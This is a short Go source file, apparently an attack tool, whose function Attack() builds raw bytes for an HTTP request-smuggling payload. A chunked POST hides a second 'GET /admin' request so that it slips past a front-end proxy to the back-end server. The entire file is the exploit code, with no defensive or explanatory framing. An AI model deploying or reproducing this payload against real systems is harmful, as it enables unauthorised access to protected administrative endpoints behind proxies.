package smuggler

import "fmt"

// Attack returns the bytes that smuggle a request past the proxy.
func Attack() string {
	hidden := "\r\n" + // for the server, the empty line after the trailers
		"GET /admin HTTP/1.1\r\n" +
		"Host: x\r\n" +
		"\r\n"
	return "POST / HTTP/1.1\r\n" +
		"Host: x\r\n" +
		"Transfer-Encoding: chunked\r\n" +
		"\r\n" +
		fmt.Sprintf("0%d\r\n", len(hidden)) +
		hidden + "\r\n" +
		"0\r\n" +
		"\r\n"
}
